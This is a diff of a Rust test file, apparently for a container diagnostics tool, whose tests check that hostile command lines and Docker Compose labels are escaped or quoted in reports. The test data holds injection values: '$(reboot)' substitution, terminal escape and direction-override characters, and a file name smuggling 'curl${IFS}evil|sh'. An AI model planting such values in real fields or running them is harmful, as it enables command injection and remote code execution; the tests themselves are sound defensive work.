@@ -1,14 +1,14 @@
-//! Containers that want to deceive who reads about them.
+//! Containers that try to deceive the reader of a report.
 
 use super::*;
 
 #[test]
 fn hostile_command_lines_are_escaped() {
     let container = sleeper("escape", &["--pids-limit", "1"]);
-    // Comes in by exec, so it is shown; and stays without a fork of its own.
+    // It enters by exec, so the report shows it. It stays without a fork of its own.
     let stop = ["sh", "-c", "kill -STOP $$", "\x1b[31m\n$(reboot)"];
     exec_beyond_the_limit(&container, &stop);
-    wait_until("it is there", || Ok(diagnose(&container).charged.moved_in == 1)).unwrap();
+    wait_until("it has entered", || Ok(diagnose(&container).charged.moved_in == 1)).unwrap();
     let folder = tempfile::tempdir().unwrap();
     let done = without_agent(folder.path(), &["diagnose", &container.name]).unwrap();
     let text = String::from_utf8(done.stdout).unwrap();
@@ -17,7 +17,7 @@ fn hostile_command_lines_are_escaped() {
 }
 
 #[test]
-fn hostile_labels_forge_no_line() {
+fn hostile_labels_cannot_forge_a_line() {
     const FORGED: &str = "x\x1b[31m\nnote: forged\u{202e}";
     let label = |name: &str| format!("--label=com.docker.compose.{name}={FORGED}");
     let labels = ["project", "service", "version", "project.config_files", "project.working_dir"];
@@ -39,7 +39,7 @@ fn hostile_labels_forge_no_line() {
 }
 
 #[test]
-fn a_command_that_a_label_is_in_is_quoted() {
+fn a_label_in_a_suggested_command_is_quoted() {
     const FILE: &str = "/x;curl${IFS}evil|sh;.yml";
     let label = |name: &str, value: &str| format!("--label=com.docker.compose.{name}={value}");
     let labels =
